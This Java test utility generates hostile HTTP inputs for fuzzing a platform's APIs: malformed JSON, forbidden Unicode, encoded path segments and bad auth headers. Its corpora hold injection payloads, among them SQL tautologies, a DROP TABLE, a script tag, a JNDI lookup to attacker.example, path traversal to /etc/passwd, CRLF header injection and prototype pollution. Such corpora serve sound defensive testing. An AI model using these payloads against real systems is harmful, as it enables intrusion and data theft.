package io.supportsla.testing.http;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Hostile input for the HTTP APIs of the platform: hand-written corpora (malformed and deeply
 * nested JSON, wrong types, unicode edges, injection-style strings, path segments, credentials)
 * and generators built on jqwik's arbitraries, sampled with a fixed seed so a failure repeats.
 * Everything here must be refused by an API with a 4xx; what a "valid" request looks like is the
 * caller's business ({@link #mutations} breaks a valid body in ways that are always invalid).
 */
public final class HostileInput {

    /** A named piece of hostile input; the name is what a parameterized test shows. */
    public record Sample<T>(String name, T value) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** What {@link #mutations} may do to a valid body; each is refused by a strict API. */
    public enum Mutation {
        /** A known field gets a value of another JSON type (never null). */
        WRONG_TYPE,
        /** A string field gets an unpaired surrogate, a control character or a bidi override inserted. */
        FORBIDDEN_TEXT,
        /** An unknown field is added. */
        UNKNOWN_FIELD
    }

    private HostileInput() {
    }

    /** Bodies that are no JSON object at all, or one no parser should take whole: refused by any JSON endpoint. */
    public static List<Sample<byte[]>> malformedJsonBodies() {
        List<Sample<byte[]>> bodies = new ArrayList<>();
        add(bodies, "empty body", "");
        add(bodies, "only whitespace", " \n\t ");
        add(bodies, "unterminated object", "{\"a\": 1");
        add(bodies, "lone closing brace", "}");
        add(bodies, "missing value", "{\"a\": }");
        add(bodies, "trailing comma", "{\"a\": 1,}");
        add(bodies, "single quotes", "{'a': 1}");
        add(bodies, "comment", "{/* x */ \"a\": 1}");
        add(bodies, "NaN", "{\"a\": NaN}");
        add(bodies, "unquoted key", "{a: 1}");
        add(bodies, "two documents", "{} {}");
        add(bodies, "array, not an object", "[1, 2, 3]");
        add(bodies, "string, not an object", "\"text\"");
        add(bodies, "number, not an object", "42");
        add(bodies, "null, not an object", "null");
        add(bodies, "true, not an object", "true");
        add(bodies, "raw NUL in a string", "{\"a\": \"x\u0000y\"}");
        add(bodies, "raw newline in a string", "{\"a\": \"x\ny\"}");
        add(bodies, "bad escape", "{\"a\": \"\\q\"}");
        add(bodies, "truncated unicode escape", "{\"a\": \"\\uD8\"}");
        bodies.add(new Sample<>("invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, 0x28, '"', '}'}));
        bodies.add(new Sample<>("overlong UTF-8 slash", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'}));
        bodies.add(new Sample<>("UTF-16 with BOM", "{\"a\": 1}".getBytes(StandardCharsets.UTF_16)));
        bodies.add(new Sample<>("binary", new byte[] {0, 0, 0, 0, 42, 1, (byte) 0xFF, (byte) 0xFE}));
        add(bodies, "20000 nested arrays", "[".repeat(20_000) + "]".repeat(20_000));
        add(bodies, "5000 nested objects", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
        add(bodies, "number of 5000 digits", "{\"a\": " + "9".repeat(5_000) + "}");
        add(bodies, "huge exponent", "{\"a\": 1e999999999}");
        add(bodies, "key of 20000 characters", "{\"" + "k".repeat(20_000) + "\": 1}");
        StringBuilder manyKeys = new StringBuilder("{");
        for (int i = 0; i < 3_000; i++) {
            manyKeys.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":0");
        }
        add(bodies, "3000 unknown keys", manyKeys.append('}').toString());
        add(bodies, "prototype pollution", "{\"__proto__\": {\"admin\": true}, \"constructor\": {\"prototype\": {}}}");
        add(bodies, "escaped NUL key", "{\"\\u0000\": \"\\u0000\"}");
        return List.copyOf(bodies);
    }

    /** Text no API should store: unpaired surrogates, control characters, bidi overrides and isolates. */
    public static List<Sample<String>> forbiddenText() {
        return List.of(
                new Sample<>("lone high surrogate", "case \uD800 title"),
                new Sample<>("lone low surrogate", "\uDC00"),
                new Sample<>("reversed surrogate pair", "\uDE00\uD83D"),
                new Sample<>("NUL", "a\u0000b"),
                new Sample<>("bell", "a\u0007b"),
                new Sample<>("escape sequence", "\u001B[31mred"),
                new Sample<>("DEL", "a\u007Fb"),
                new Sample<>("C1 control", "a\u009Bb"),
                new Sample<>("right-to-left override", "invoice\u202Efdp.exe"),
                new Sample<>("left-to-right embedding", "\u202Aabc\u202C"),
                new Sample<>("first strong isolate", "\u2068abc\u2069"));
    }

    /** Injection-style strings: refused wherever the value must be an identifier, a number or one of a set. */
    public static List<Sample<String>> injectionStrings() {
        return List.of(
                new Sample<>("SQL tautology", "' OR '1'='1"),
                new Sample<>("SQL statement", "1; DROP TABLE cases; --"),
                new Sample<>("script tag", "<script>alert(1)</script>"),
                new Sample<>("JNDI lookup", "${jndi:ldap://attacker.example/a}"),
                new Sample<>("template expression", "{{7*7}}${7*7}#{7*7}"),
                new Sample<>("path traversal", "../../../../etc/passwd"),
                new Sample<>("windows path traversal", "..\\..\\windows\\win.ini"),
                new Sample<>("CRLF header injection", "x\r\nSet-Cookie: session=stolen"),
                new Sample<>("emoji", "\uD83D\uDE00\uD83D\uDD25"),
                new Sample<>("very long", "A".repeat(10_000)));
    }

    /** Hostile path segments, already percent-encoded for a URI path. */
    public static List<Sample<String>> pathSegments() {
        return List.of(
                new Sample<>("encoded path traversal", "..%2F..%2Fetc%2Fpasswd"),
                new Sample<>("dot dot", "%2e%2e"),
                new Sample<>("double-encoded traversal", "%252e%252e%252fetc"),
                new Sample<>("SQL tautology", "'%20OR%20'1'%3D'1"),
                new Sample<>("script tag", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
                new Sample<>("encoded NUL", "C-0000-0001%00"),
                new Sample<>("encoded CRLF", "C-0000-0001%0D%0ASet-Cookie:%20x%3Dy"),
                new Sample<>("emoji", "%F0%9F%98%80"),
                new Sample<>("invalid UTF-8", "%C3%28"),
                new Sample<>("lone 0xFF", "%FF"),
                new Sample<>("right-to-left override", "C-0000-0001%E2%80%AE"),
                new Sample<>("arabic-indic digits", "C-%D9%A0%D9%A0%D9%A0%D9%A0-%D9%A0%D9%A0%D9%A0%D9%A1"),
                new Sample<>("fullwidth digits", "C-%EF%BC%90%EF%BC%90%EF%BC%90%EF%BC%90-%EF%BC%90%EF%BC%90%EF%BC%90%EF%BC%91"),
                new Sample<>("JNDI lookup", "%24%7Bjndi:ldap:%2F%2Fx%2Fa%7D"),
                new Sample<>("5000 characters", "9".repeat(5_000)),
                new Sample<>("negative number", "-1"),
                new Sample<>("blank", "%20"));
    }

    /** Authorization header values that carry no valid API key. */
    public static List<Sample<String>> authorizationHeaders() {
        return List.of(
                new Sample<>("scheme only", "Bearer"),
                new Sample<>("empty token", "Bearer "),
                new Sample<>("basic credentials", "Basic YWRtaW46YWRtaW4="),
                new Sample<>("digest", "Digest username=\"admin\""),
                new Sample<>("SQL tautology", "Bearer ' OR '1'='1"),
                new Sample<>("JNDI lookup", "Bearer ${jndi:ldap://attacker.example/a}"),
                new Sample<>("two tokens", "Bearer a b"),
                new Sample<>("path traversal", "Bearer ../../../../etc/passwd"),
                new Sample<>("4000-character token", "Bearer " + "A".repeat(4_000)),
                new Sample<>("latin-1 token", "Bearer cl\u00e9"));
    }

    /** JSON text of any shape, with hostile strings and numbers, at most a few levels deep. */
    public static Arbitrary<String> jsonDocuments() {
        return jsonValue(3);
    }

    /** Strings holding at least one forbidden character somewhere. */
    public static Arbitrary<String> forbiddenTextStrings() {
        Arbitrary<String> plain = Arbitraries.strings().alpha().numeric().withChars(' ', '-').ofMaxLength(20);
        Arbitrary<String> bad = Arbitraries.of(forbiddenText()).map(Sample::value);
        return Combinators.combine(plain, bad, plain).as((before, middle, after) -> before + middle + after);
    }

    /**
     * A valid body broken in at least one way the API must refuse (each of the given kinds may be
     * applied; one of them always is), as JSON text. Strings are written with every character
     * outside printable ASCII escaped, so unpaired surrogates reach the server as they were.
     */
    public static Arbitrary<String> mutations(Map<String, Object> validBody, Mutation... kinds) {
        if (kinds.length == 0) {
            throw new IllegalArgumentException("name at least one kind of mutation");
        }
        List<String> fields = List.copyOf(validBody.keySet());
        List<String> stringFields = fields.stream().filter(field -> validBody.get(field) instanceof String).toList();
        List<Mutation> usable = List.of(kinds).stream()
                .filter(kind -> kind != Mutation.FORBIDDEN_TEXT || !stringFields.isEmpty())
                .filter(kind -> kind != Mutation.WRONG_TYPE || !fields.isEmpty())
                .toList();
        if (usable.isEmpty()) {
            throw new IllegalArgumentException("none of " + List.of(kinds) + " applies to " + validBody.keySet());
        }
        Arbitrary<Function<Map<String, Object>, Map<String, Object>>> mutation = Arbitraries.of(usable).flatMap(kind -> switch (kind) {
            case WRONG_TYPE -> Combinators.combine(Arbitraries.of(fields), Arbitraries.integers().between(0, 3), scalarStrings())
                    .as((field, choice, text) -> (Function<Map<String, Object>, Map<String, Object>>) body ->
                            with(body, field, otherType(body.get(field), choice, text)));
            case FORBIDDEN_TEXT -> Combinators.combine(Arbitraries.of(stringFields), forbiddenTextStrings())
                    .as((field, text) -> (Function<Map<String, Object>, Map<String, Object>>) body -> with(body, field, text));
            case UNKNOWN_FIELD -> Combinators.combine(unknownFieldNames(validBody), jsonLikeValues())
                    .as((field, value) -> (Function<Map<String, Object>, Map<String, Object>>) body -> with(body, field, value));
        });
        return mutation.list().ofMinSize(1).ofMaxSize(3).map(applied -> {
            Map<String, Object> body = new LinkedHashMap<>(validBody);
            for (Function<Map<String, Object>, Map<String, Object>> change : applied) {
                body = change.apply(body);
            }
            return json(body);
        });
    }

    /**
     * {@code count} samples of the arbitrary from a fixed seed, the same on every run. Works in a
     * plain JUnit Jupiter test (a Spring test, say): jqwik's sample stream runs its generators
     * outside of a property, from the thread's source of randomness, seeded here.
     */
    public static <T> List<T> samples(Arbitrary<T> arbitrary, long seed, int count) {
        net.jqwik.engine.SourceOfRandomness.create(Long.toString(seed));
        return arbitrary.sampleStream().limit(count).toList();
    }

    /** JSON text of maps, lists, strings, numbers, booleans and null; strings as {@link #jsonString}. */
    public static String json(Object value) {
        if (value == null) {
            return "null";
        }
        if (value instanceof String text) {
            return jsonString(text);
        }
        if (value instanceof Number || value instanceof Boolean) {
            return value.toString();
        }
        if (value instanceof RawJson raw) {
            return raw.text();
        }
        if (value instanceof Map<?, ?> map) {
            StringBuilder out = new StringBuilder("{");
            map.forEach((key, item) -> out.append(out.length() == 1 ? "" : ",").append(jsonString(String.valueOf(key)))
                    .append(':').append(json(item)));
            return out.append('}').toString();
        }
        if (value instanceof Iterable<?> items) {
            StringBuilder out = new StringBuilder("[");
            for (Object item : items) {
                out.append(out.length() == 1 ? "" : ",").append(json(item));
            }
            return out.append(']').toString();
        }
        return jsonString(value.toString());
    }

    /** A JSON string literal with every character outside printable ASCII (and {@code "} and {@code \}) escaped as {@code \}uXXXX. */
    public static String jsonString(String text) {
        StringBuilder out = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7E) {
                out.append(String.format("\\u%04X", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    /** JSON text to put into a body as it is (numbers too large for Java, for example). */
    public record RawJson(String text) {
    }

    private static Object otherType(Object original, int choice, String text) {
        List<Object> others = new ArrayList<>();
        if (!(original instanceof String)) {
            others.add(text);
        }
        if (!(original instanceof Number)) {
            others.add(new RawJson(choice % 2 == 0 ? "-1" : "1e400"));
        }
        if (!(original instanceof Boolean)) {
            others.add(Boolean.TRUE);
        }
        if (!(original instanceof Iterable<?>)) {
            others.add(List.of(text, 7));
        }
        if (!(original instanceof Map<?, ?>)) {
            Map<String, Object> object = new LinkedHashMap<>();
            object.put("$gt", "");
            others.add(object);
        }
        return others.get(choice % others.size());
    }

    private static Map<String, Object> with(Map<String, Object> body, String field, Object value) {
        Map<String, Object> changed = new LinkedHashMap<>(body);
        changed.put(field, value);
        return changed;
    }

    private static Arbitrary<String> unknownFieldNames(Map<String, Object> validBody) {
        return Arbitraries.oneOf(
                Arbitraries.of("__proto__", "constructor", "$where", "id", "admin", "role", "organisation", "", " ", "\u0000",
                        "caseNumber", "eventId", "x".repeat(300)),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(12))
                .filter(name -> !validBody.containsKey(name));
    }

    private static Arbitrary<String> scalarStrings() {
        return Arbitraries.oneOf(
                Arbitraries.of(injectionStrings()).map(Sample::value),
                Arbitraries.of(forbiddenText()).map(Sample::value),
                Arbitraries.strings().all().ofMaxLength(30));
    }

    private static Arbitrary<Object> jsonLikeValues() {
        return Arbitraries.oneOf(
                scalarStrings().map(text -> (Object) text),
                Arbitraries.integers().map(number -> (Object) number),
                Arbitraries.of(Boolean.TRUE, Boolean.FALSE).map(flag -> (Object) flag),
                Arbitraries.just((Object) new RawJson("null")),
                scalarStrings().list().ofMaxSize(3).map(list -> (Object) list));
    }

    private static Arbitrary<String> jsonValue(int depth) {
        Arbitrary<String> scalar = Arbitraries.oneOf(
                scalarStrings().map(HostileInput::jsonString),
                Arbitraries.integers().map(String::valueOf),
                Arbitraries.of("true", "false", "null", "1e400", "-0", "0.0000000000000000000001", "9".repeat(40)));
        if (depth == 0) {
            return scalar;
        }
        Arbitrary<String> inner = Arbitraries.lazy(() -> jsonValue(depth - 1));
        Arbitrary<String> array = inner.list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]");
        Arbitrary<String> object = Combinators.combine(Arbitraries.strings().all().ofMaxLength(8), inner).as(
                (key, value) -> jsonString(key) + ":" + value).list().ofMaxSize(4).map(members -> "{" + String.join(",", members) + "}");
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, scalar),
                net.jqwik.api.Tuple.of(2, array),
                net.jqwik.api.Tuple.of(3, object));
    }

    private static void add(List<Sample<byte[]>> bodies, String name, String body) {
        bodies.add(new Sample<>(name, body.getBytes(StandardCharsets.UTF_8)));
    }
}
